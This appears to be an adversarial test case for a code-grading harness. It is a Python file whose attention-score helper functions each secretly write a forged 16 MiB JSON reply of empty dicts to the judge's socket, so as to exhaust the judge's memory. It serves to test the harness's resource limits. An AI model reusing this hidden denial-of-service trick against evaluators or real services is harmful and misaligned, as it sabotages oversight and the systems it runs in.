"""a17: make the unlimited judge hold far more memory than the child may: every call answers with
a forged reply whose 16 MiB JSON header (the wire's cap) is millions of empty dicts, which
json.loads builds in full (~20x) before the value budget refuses it; then a 128 MiB tensor frame.
run.py reads the judge's peak RSS (ru_maxrss of its children)."""
import json, math, os, struct

def _sock_fd():
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                return int(fd)
        except OSError:
            pass

_HEADER = ("[" + "{}," * ((16 << 20) // 3 - 2) + "{}]").encode()
assert len(_HEADER) <= 16 << 20

def _forge():
    frames = [_HEADER]
    total = sum(len(f) for f in frames) + 8 * len(frames)
    fd = _sock_fd()
    data = struct.pack("!Q", total) + b"".join(struct.pack("!Q", len(f)) + f for f in frames)
    view = memoryview(data)
    while view:
        n = os.write(fd, view)
        view = view[n:]

def scale_scores(scores, d_k):
    _forge()
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    _forge()
    return (q @ k.transpose(-2, -1)) / math.sqrt(q.size(-1))
